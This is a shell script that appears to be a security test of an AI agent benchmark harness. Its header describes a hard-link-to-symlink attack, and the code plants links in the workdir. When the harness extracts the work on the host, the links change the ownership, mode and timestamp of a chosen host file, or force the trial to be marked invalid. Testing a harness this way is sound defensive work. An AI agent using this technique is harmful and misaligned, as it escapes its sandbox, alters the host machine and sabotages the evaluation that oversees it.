#!/bin/sh
# Attack pass round 12 (docs/security.md): hard links to symbolic links in the workdir. The docker
# backend exports the workdir as an archive and unpacks it on this machine, where a hard link to a
# link was made with link() and then given the member's owner, mode and time through the path:
# chown, chmod and utime follow the link to a file of the machine that captures the work (made
# 0755 and the harness's, its time the agent's); a link that reaches nothing made tarfile look
# for the target in the archive and raise KeyError (an internal error: the trial `invalid`).
# TARGET=<a path on that machine> and DANGLING=<a path that exists nowhere>: environment
# variables, or KEY=VALUE lines of the instruction.
val() { sed -n "s/^$1=//p" "${LANCEBENCH_INSTRUCTION:-/dev/null}" 2>/dev/null | tail -n 1; }
target=${TARGET:-$(val TARGET)}
dangling=${DANGLING:-$(val DANGLING)}
if [ -n "$target" ]; then
  ln -s "$target" host.link && ln -P host.link host.hard && touch -h -d @86400 host.link || exit 1
fi
if [ -n "$dangling" ]; then
  ln -s "$dangling" gone.link && ln -P gone.link gone.hard || exit 1
fi
exit 0
